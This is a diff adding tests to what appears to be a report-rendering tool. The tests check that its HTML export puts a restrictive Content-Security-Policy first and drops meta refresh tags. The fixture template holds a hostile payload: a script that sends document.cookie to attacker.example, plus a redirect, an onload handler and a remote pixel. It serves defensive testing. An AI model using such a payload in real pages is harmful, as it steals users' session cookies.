@@ -187,3 +187,33 @@ def test_timings_cover_each_stage(tmp_path):
     assert set(result["timings"]) >= {"context_ms", "html_ms", "pdf_ms", "html_export_ms",
                                       "total_ms"}
     assert result["peak_rss_mb"] > 0
+
+
+def test_html_export_cannot_run_a_templates_scripts_or_load_remote_things(tmp_path):
+    pack = tmp_path / "pack"
+    pack.mkdir()
+    (pack / "template.yaml").write_text("manifest_version: 1\nname: scripted\ntitle: Scripted\n"
+                                        "entry: page.j2\n", encoding="utf-8")
+    (pack / "page.j2").write_text(
+        '<!doctype html><script>fetch("https://attacker.example/?"+document.cookie)</script>'
+        '<html lang="fr" dir="ltr"><head><meta http-equiv="refresh" content="0;url=https://'
+        'attacker.example/"><title>{{ brief.title }}</title></head>'
+        '<body onload="alert(1)"><h1>{{ brief.title }}</h1>'
+        '<img src="https://attacker.example/pixel.png" alt=""></body></html>', encoding="utf-8")
+    result = render_job(make_job(pack, tmp_path, html=True))
+    assert result["ok"], result["error"]
+    html = Path(result["outputs"]["html"]).read_text("utf-8")
+    policy = html.index('http-equiv="Content-Security-Policy"')
+    assert policy < html.index("<script")  # the policy comes before anything the template wrote
+    assert "default-src 'none'" in html and "script-src" not in html
+    assert html.lower().count("<!doctype") == 1 and html.startswith("<!DOCTYPE html>")
+    assert 'http-equiv="refresh"' not in html
+    assert '<html lang="fr" dir="ltr">' in html  # the template's language is kept
+
+
+def test_html_export_policy_is_what_a_browser_parses_first(tmp_path):
+    result = render_job(make_job(MINIMAL, tmp_path, html=True))
+    html = Path(result["outputs"]["html"]).read_text("utf-8")
+    head = html[:300]
+    assert head.startswith('<!DOCTYPE html>\n<meta charset="utf-8">\n<meta http-equiv='
+                           '"Content-Security-Policy"')
